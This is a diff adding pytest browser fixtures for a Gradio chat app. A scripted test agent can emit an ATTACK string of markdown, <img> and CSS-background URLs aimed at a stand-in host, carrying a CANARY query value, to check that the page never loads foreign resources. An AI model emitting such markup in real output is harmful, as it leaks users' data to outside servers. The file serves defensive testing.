@@ -1,0 +1,156 @@
+"""Browser fixtures: the real Gradio app on 127.0.0.1 (in a thread) and Debian's chromium via Playwright.
+
+Never run `playwright install`: Playwright drives /usr/bin/chromium. Every request the page makes is
+recorded, and any request to a non-loopback host is aborted (and then fails the test that checks).
+"""
+
+from __future__ import annotations
+
+import asyncio
+import ipaddress
+import socket
+from collections.abc import AsyncIterator, Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+
+from core.events import Done, RunEvent, TextDelta, ToolCallEnded, ToolCallStarted
+from core.orchestrator import JournalHistory, ModelChoice, Orchestrator
+from core.types import Message, ToolCall, Usage
+from memory.journal import Journal
+
+CHROMIUM = Path("/usr/bin/chromium")
+CHROMIUM_ARGS = [
+    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
+    "--disable-component-update", "--disable-sync",
+]
+NOTICE = "Running on a scripted test model: fine for a demo, unreliable on facts."
+ATTACK = (
+    "Here: ![pixel](http://203.0.113.9/p.png?q=CANARY) and <img src=\"http://203.0.113.9/q.png\"> "
+    "<div style=\"background:url(http://203.0.113.9/bg.png)\">styled</div> done."
+)
+
+
+class ScriptedAgent:
+    """Echoes the last user message word by word; `tool …`, `attack` and `slow …` script other runs."""
+
+    async def run(
+        self, messages: list[Message], *, cancel: asyncio.Event | None = None
+    ) -> AsyncIterator[RunEvent]:
+        text = messages[-1].content
+        if text.startswith("tool"):
+            call = ToolCall("t1", "search", {"query": text})
+            yield ToolCallStarted(call)
+            yield ToolCallEnded(call, ok=True, output="3 results", elapsed_ms=12)
+        answer = ATTACK if text == "attack" else f"Echo: {text}"
+        if text.startswith("slow"):
+            answer = " ".join(f"w{i}" for i in range(200))
+        streamed = []
+        for word in answer.split(" "):
+            if cancel is not None and cancel.is_set():
+                yield Done(answer=" ".join(streamed), exit_reason="cancelled", model="scripted")
+                return
+            streamed.append(word)
+            yield TextDelta(word + " ")
+            await asyncio.sleep(0.1 if text.startswith("slow") else 0.005)
+        yield Done(answer=answer, usage=Usage(12, len(streamed)), model="scripted")
+
+
+@dataclass
+class Server:
+    url: str
+    journal: Journal
+
+
+@dataclass
+class Recorder:
+    """Every URL the page requested; `foreign` holds those for non-loopback hosts (aborted)."""
+
+    urls: list[str] = field(default_factory=list)
+    foreign: list[str] = field(default_factory=list)
+
+
+def _free_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return int(probe.getsockname()[1])
+
+
+def _is_loopback_url(url: str) -> bool:
+    parts = urlsplit(url)
+    if parts.scheme in ("data", "blob", "about"):
+        return True
+    host = parts.hostname or ""
+    if host == "localhost":
+        return True
+    try:
+        return ipaddress.ip_address(host).is_loopback
+    except ValueError:
+        return False
+
+
+@pytest.fixture(scope="module")
+def chromium_path() -> Path:
+    if not CHROMIUM.exists():
+        pytest.skip("/usr/bin/chromium is missing (apt-get install -y chromium); CI installs it")
+    return CHROMIUM
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory, chromium_path: Path) -> Iterator[Server]:
+    from ui.gradio_app import build_app, launch
+
+    data = tmp_path_factory.mktemp("gui")
+    journal = Journal(data / "j.db")
+    orchestrator = Orchestrator(
+        models=[ModelChoice("scripted", ScriptedAgent())], log=journal, history=JournalHistory(journal, 8),
+        system_prompt="You are a test.",
+    )
+    app = build_app(orchestrator, title="Daemon", model_notice=NOTICE)
+    url = launch(app, "127.0.0.1", _free_port(), None, block=False, quiet=True, blocked_paths=[data])
+    try:
+        yield Server(url, journal)
+    finally:
+        app.close()
+        journal.close()
+
+
+@pytest.fixture(scope="module")
+def browser(chromium_path: Path) -> Iterator[Any]:
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=str(chromium_path), args=CHROMIUM_ARGS)
+        try:
+            yield browser
+        finally:
+            browser.close()
+
+
+@pytest.fixture
+def page(browser: Any, server: Server) -> Iterator[tuple[Any, Recorder]]:
+    """A fresh browser context on the chat page, with every request recorded and foreign ones aborted."""
+    recorder = Recorder()
+    context = browser.new_context()
+
+    def route(route: Any) -> None:
+        url = route.request.url
+        recorder.urls.append(url)
+        if _is_loopback_url(url):
+            route.continue_()
+        else:
+            recorder.foreign.append(url)
+            route.abort()
+
+    context.route("**/*", route)
+    page = context.new_page()
+    page.set_default_timeout(15_000)
+    page.goto(server.url)
+    page.wait_for_selector("#msg textarea")
+    try:
+        yield page, recorder
+    finally:
+        context.close()
